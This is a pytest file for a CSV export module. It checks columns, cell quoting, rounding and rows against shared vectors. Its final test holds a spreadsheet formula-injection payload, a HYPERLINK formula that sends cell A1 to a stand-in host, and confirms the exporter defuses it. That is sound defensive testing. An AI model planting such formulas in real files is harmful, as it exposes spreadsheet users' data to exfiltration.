"""The CSV of requests: the shared vectors for the column list, the cell rule and whole rows."""

import json
from pathlib import Path

import pytest

from llms.ledger.export import CSV_COLUMNS, ROUNDING, csv_cell, csv_lines, rounded

VECTORS = json.loads((Path(__file__).parents[2] / "vectors" / "csv.json").read_text(encoding="utf-8"))


def test_the_columns_and_header_are_the_shared_ones():
    assert list(CSV_COLUMNS) == VECTORS["columns"]
    assert next(csv_lines([])) == VECTORS["header"] == ",".join(VECTORS["columns"]) + "\r\n"


@pytest.mark.parametrize("case", VECTORS["cells"], ids=[repr(case["value"])[:40] for case in VECTORS["cells"]])
def test_cell(case):
    assert csv_cell(case["value"]) == case["cell"]


@pytest.mark.parametrize("case", VECTORS["rounding"], ids=[f"{case['column']}={case['value']!r}" for case in VECTORS["rounding"]])
def test_float_noise_is_rounded_per_column(case):
    assert csv_cell(rounded(case["column"], case["value"])) == case["cell"]


def test_the_rounded_columns_and_places_are_the_shared_ones():
    assert ROUNDING == VECTORS["rounding_places"]
    assert set(ROUNDING) <= set(CSV_COLUMNS)


@pytest.mark.parametrize("case", VECTORS["rows"], ids=[case["name"] for case in VECTORS["rows"]])
def test_row(case):
    assert list(csv_lines([case["line"]]))[1] == case["row"]


def test_the_spreadsheet_formula_case_of_the_issue_is_defused_and_quoted():
    assert csv_cell('=HYPERLINK("http://x/?"&A1,"open")') == '"\'=HYPERLINK(""http://x/?""&A1,""open"")"'
